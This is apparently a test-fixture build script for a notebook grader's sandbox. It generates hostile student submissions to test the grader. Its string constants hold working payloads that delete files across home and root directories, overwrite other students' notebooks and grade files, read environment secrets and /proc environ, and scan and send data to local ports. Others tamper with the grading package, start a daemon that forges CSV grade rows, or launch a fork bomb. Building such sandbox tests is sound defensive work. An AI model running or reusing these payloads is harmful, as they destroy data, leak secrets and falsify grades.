"""Write the hostile-submissions folder (run from the repository root to regenerate it).

    .venv/bin/python tests/hostile/build.py

Each notebook is a submission as a hostile or careless student could hand it
in. ``expected.json`` lists, for each file, the share of each problem's points
the grader must still give (1: all of them): the honest notebooks' answers were computed with ``lesson_lib`` when
this folder was written and are typed in as literals, so a grader that lets
one submission spoil another (or a changed variant) shows up as a lost point.

The cases (the issue's, then the sandbox's):

* ``h-source``: code cells whose ``source`` is a number and a list of numbers;
* ``h-print``: redefines ``print`` and ``builtins.print`` to fake the answers marker with a list;
* ``h-exit``: ``os._exit(1)``, and an answer line of 100,000 minus signs;
* ``h-huge``: ``answer_q2 = 10**5000``;
* ``=1+1``: a file name that is a spreadsheet formula;
* ``dup01``, ``DUP01``, ``dup01/problems``: one student ID three times;
* ``broken``, ``deep``: not JSON, JSON nested 100,000 deep;
* ``h-delete``: deletes everything it can reach next to it and above it;
* ``h-steal``: looks for other notebooks and grade files, copies and rewrites them;
* ``h-env``: reads the environment (the test plants ``LESSON_PLANTED_SECRET``) into its answers;
* ``h-network``: connects to 127.0.0.1 ports 40000-40999 (the test listens on one) and the internet;
* ``h-package``: writes into the ``lesson_lib`` package and its site-packages;
* ``h-daemon``: forks a daemon that rewrites any ``grades.csv`` it finds 3 s later;
* ``h-memory``: allocates 4 GB;
* ``h-print200``: prints 200 MB;
* ``h-forkbomb``: forks without end (the process limit stops it; the time limit ends it).
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat

from lesson_lib.coursework.problems import PROBLEMS, reference

HERE = Path(__file__).resolve().parent
SUBMISSIONS = HERE / "submissions"


def right(student: str, qids: list[str] | tuple[str, ...] = PROBLEMS) -> str:
    """Answer lines with the right values for ``student``."""
    return "\n".join(f"answer_{q} = {reference(q, student)!r}" for q in qids)


def notebook(student: str, *cells: str) -> nbformat.NotebookNode:
    """A notebook: STUDENT set, then the given code cells."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    nb.cells = [nbformat.v4.new_code_cell(f'STUDENT = "{student}"')]
    nb.cells += [nbformat.v4.new_code_cell(c) for c in cells]
    return nb


CHECK = "from lesson_lib.coursework import check_all\ncheck_all(globals(), STUDENT)"

DELETE = """
import os, shutil, glob
for pattern in ("../*", "../../*", "../../../*", "/home/*", "/tmp/*", "/work/*", "/root/*"):
    for path in glob.glob(pattern):
        if os.path.abspath(path) == os.path.abspath("."):
            continue
        try:
            shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
            print("deleted", path)
        except OSError as err:
            print("could not delete", path, type(err).__name__)
"""

STEAL = """
import os
stolen = []
for top in ("..", "/", os.path.expanduser("~")):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
        for name in files:
            path = os.path.join(root, name)
            if path.endswith(".ipynb") and os.path.basename(root) != "student" or "grades" in name:
                try:
                    text = open(path).read()
                    stolen.append(path)
                    with open(path, "w") as fh:  # "fix" another student's answers
                        fh.write(text.replace("answer_q", "wrong_q"))
                except OSError:
                    pass
print("found", stolen)
answer_q12 = "stolen: " + ";".join(stolen)[:150]
"""

ENV = """
import os
secret = os.environ.get("LESSON_PLANTED_SECRET", "no secret")
everything = repr(dict(os.environ))
print(secret, everything)
answer_q2 = secret
answer_q3 = everything[:190]
for path in ("/proc/1/environ", "/proc/self/environ"):
    try:
        answer_q4 = open(path, "rb").read().decode(errors="replace")[:190]
    except OSError:
        pass
"""

NETWORK = """
import socket
reached = []
for port in range(40000, 41000):
    s = socket.socket()
    s.settimeout(0.05)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(b"stolen answers")
        reached.append(port)
    except OSError:
        pass
    finally:
        s.close()
for host, port in (("1.1.1.1", 80), ("8.8.8.8", 53), ("example.com", 443)):
    try:
        socket.create_connection((host, port), timeout=2).close()
        reached.append(host)
    except OSError:
        pass
print("reached", reached)
answer_q12 = "reached: " + repr(reached)[:150]
"""

PACKAGE = """
import os, sys, lesson_lib, lesson_lib.coursework.check as chk
folder = os.path.dirname(lesson_lib.__file__)
for target in (os.path.join(folder, "pwned.py"), os.path.join(folder, "coursework", "check.py"),
               os.path.join(sys.prefix, "pwned.txt")):
    try:
        with open(target, "a") as fh:
            fh.write("\\n# pwned\\n")
        print("wrote", target)
    except OSError as err:
        print("could not write", target, type(err).__name__)
chk.check = lambda *a, **k: "right"  # only changes this kernel
"""

DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        for top in ("/", "..", "/tmp"):
            for root, dirs, files in os.walk(top):
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
                for name in files:
                    if name.endswith(".csv"):
                        try:
                            with open(os.path.join(root, name), "a") as fh:
                                fh.write("h-daemon,,1,1,1,1,1,1,1,1,1,1,1,1,12,12,ran,\\n")
                        except OSError:
                            pass
        time.sleep(600)
    os._exit(0)
"""

MEMORY = "blob = bytearray(4 * 10**9)\nblob[::4096] = b'x' * len(blob[::4096])"
PRINT200 = (
    "import os, sys\nline = 'x' * 10**6\nfor _ in range(100):\n    print(line)\n"
    "for _ in range(100):\n    os.write(1, line.encode())"
)
FORKBOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"


def build() -> dict[str, dict[str, float]]:
    """Write every notebook; return {file: {problem: score}} of what must be graded."""
    SUBMISSIONS.mkdir(parents=True, exist_ok=True)
    expected: dict[str, dict[str, float]] = {}

    def save(rel: str, nb: object, scores: dict[str, float]) -> None:
        path = SUBMISSIONS / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(nb, str):
            path.write_text(nb)
        else:
            path.write_text(json.dumps(nb, indent=1) + "\n")
        expected[rel] = scores

    full = {q: 1.0 for q in PROBLEMS}
    save("honest1/problems.ipynb", notebook("honest1", right("honest1"), CHECK), full)
    save("honest2.ipynb", notebook("honest2", right("honest2"), CHECK), full)
    save("honest3.ipynb", notebook("honest3", right("honest3"), CHECK), full)

    q1 = {"q1": 1.0}
    bad = notebook("h-source", right("h-source", ["q1"]))
    bad.cells.append(nbformat.v4.new_code_cell("x = 1"))
    bad.cells[-1]["source"] = 42
    bad.cells.append(nbformat.v4.new_code_cell("y = 2"))
    bad.cells[-1]["source"] = [1, 2, 3]
    save("h-source.ipynb", bad, q1)
    fake = "'__COURSEWORK_ANSWERS__' + '[1, 2, 3]'"
    save(
        "h-print.ipynb",
        notebook(
            "h-print",
            right("h-print", ["q1"]),
            f"import builtins\nprint = lambda *a, **k: builtins.print({fake})",
            f"_real = builtins.print\nbuiltins.print = lambda *a, **k: _real({fake})",
        ),
        q1,
    )
    save(
        "h-exit.ipynb",
        notebook(
            "h-exit",
            right("h-exit", ["q1"]),
            "import os\nos._exit(1)",
            "answer_q2 = " + "-" * 100_000 + "1",
        ),
        q1,
    )
    save("h-huge.ipynb", notebook("h-huge", right("h-huge", ["q1"]), "answer_q2 = 10**5000"), q1)
    save("=1+1.ipynb", notebook("=1+1", "answer_q1 = '=1+1'"), {})
    save("dup01.ipynb", notebook("dup01", right("dup01", ["q1"])), q1)
    save("DUP01.ipynb", notebook("DUP01", right("dup01", ["q1", "q2"])), {"q1": 1.0, "q2": 1.0})
    save("dup01/problems.ipynb", notebook("dup01", right("dup01", ["q3"])), {"q3": 1.0})
    save("broken.ipynb", "this is not a notebook", {})
    save("deep.ipynb", "[" * 100_000 + "]" * 100_000, {})
    for name, code in (
        ("h-delete", DELETE),
        ("h-steal", STEAL),
        ("h-env", ENV),
        ("h-network", NETWORK),
        ("h-package", PACKAGE),
        ("h-daemon", DAEMON),
        ("h-memory", MEMORY),
        ("h-print200", PRINT200),
        ("h-forkbomb", FORKBOMB),
    ):
        save(f"{name}.ipynb", notebook(name, right(name, ["q1"]), code), q1)
    (HERE / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
    return expected


if __name__ == "__main__":
    build()
